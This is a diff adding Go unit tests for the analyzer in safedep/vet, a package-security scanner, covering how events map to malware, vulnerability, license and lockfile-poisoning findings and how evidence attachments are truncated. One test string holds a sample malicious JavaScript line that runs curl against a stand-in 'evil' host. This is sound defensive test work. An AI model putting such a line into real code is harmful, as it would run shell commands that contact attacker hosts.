@@ -0,0 +1,153 @@
+package analyzer
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/safedep/vet/gen/checks"
+	"github.com/safedep/vet/gen/filtersuite"
+	"github.com/safedep/vet/gen/insightapi"
+	jsonreportspec "github.com/safedep/vet/gen/jsonreport"
+	"github.com/safedep/vet/pkg/models"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestAnalyzerEventGetFinding(t *testing.T) {
+	high := insightapi.PackageVulnerabilitySeveritiesRiskHIGH
+	vulnerablePkg := &models.Package{
+		PackageDetails: models.NewPackageDetail(models.EcosystemNpm, "test", "1.0.0"),
+		Insights: &insightapi.PackageVersionInsight{
+			Vulnerabilities: &[]insightapi.PackageVulnerability{
+				{
+					Severities: &[]struct {
+						Risk  *insightapi.PackageVulnerabilitySeveritiesRisk `json:"risk,omitempty"`
+						Score *string                                        `json:"score,omitempty"`
+						Type  *insightapi.PackageVulnerabilitySeveritiesType `json:"type,omitempty"`
+					}{
+						{Risk: &high},
+					},
+				},
+			},
+		},
+	}
+
+	explicit := &Finding{Kind: FindingKindMalware, Severity: FindingSeverityHigh}
+
+	cases := []struct {
+		name     string
+		event    *AnalyzerEvent
+		nilCheck bool
+		kind     FindingKind
+		severity FindingSeverity
+		title    string
+	}{
+		{
+			"Explicit finding is returned as is",
+			&AnalyzerEvent{Type: ET_FilterExpressionMatched, Finding: explicit},
+			false,
+			FindingKindMalware,
+			FindingSeverityHigh,
+			"",
+		},
+		{
+			"Vulnerability filter match",
+			&AnalyzerEvent{
+				Type:    ET_FilterExpressionMatched,
+				Package: vulnerablePkg,
+				Filter: &filtersuite.Filter{
+					Name:      "critical-or-high-vulns",
+					CheckType: checks.CheckType_CheckTypeVulnerability,
+				},
+			},
+			false,
+			FindingKindVulnerability,
+			FindingSeverityHigh,
+			"critical-or-high-vulns",
+		},
+		{
+			"License filter match",
+			&AnalyzerEvent{
+				Type: ET_FilterExpressionMatched,
+				Filter: &filtersuite.Filter{
+					Name:      "gpl",
+					Summary:   "GPL license found",
+					CheckType: checks.CheckType_CheckTypeLicense,
+				},
+			},
+			false,
+			FindingKindLicense,
+			FindingSeverityMedium,
+			"GPL license found",
+		},
+		{
+			"Lockfile poisoning threat",
+			&AnalyzerEvent{
+				Type: ET_LockfilePoisoningSignal,
+				Threat: &jsonreportspec.ReportThreat{
+					Id:         jsonreportspec.ReportThreat_LockfilePoisoning,
+					Message:    "untrusted host",
+					Confidence: jsonreportspec.ReportThreat_High,
+				},
+			},
+			false,
+			FindingKindThreat,
+			FindingSeverityHigh,
+			"untrusted host",
+		},
+		{
+			"Fail on error is not a finding",
+			&AnalyzerEvent{Type: ET_AnalyzerFailOnError},
+			true,
+			"",
+			"",
+			"",
+		},
+	}
+
+	for _, test := range cases {
+		t.Run(test.name, func(t *testing.T) {
+			finding := test.event.GetFinding()
+			if test.nilCheck {
+				assert.Nil(t, finding)
+				return
+			}
+
+			assert.NotNil(t, finding)
+			assert.Equal(t, test.kind, finding.Kind)
+			assert.Equal(t, test.severity, finding.Severity)
+			assert.Equal(t, test.title, finding.Title)
+		})
+	}
+}
+
+func TestNewFindingEvidenceAttachment(t *testing.T) {
+	cases := []struct {
+		name      string
+		content   string
+		size      int
+		truncated bool
+	}{
+		{
+			"Content within limit",
+			"require('child_process').exec('curl http://evil')",
+			49,
+			false,
+		},
+		{
+			"Content exceeding limit is truncated",
+			strings.Repeat("a", FindingEvidenceAttachmentMaxSize+10),
+			FindingEvidenceAttachmentMaxSize,
+			true,
+		},
+	}
+
+	for _, test := range cases {
+		t.Run(test.name, func(t *testing.T) {
+			attachment := NewFindingEvidenceAttachment("index.js", "text/plain", test.content)
+
+			assert.Equal(t, "index.js", attachment.Name)
+			assert.Equal(t, test.size, len(attachment.Content))
+			assert.Equal(t, test.truncated, attachment.Truncated)
+		})
+	}
+}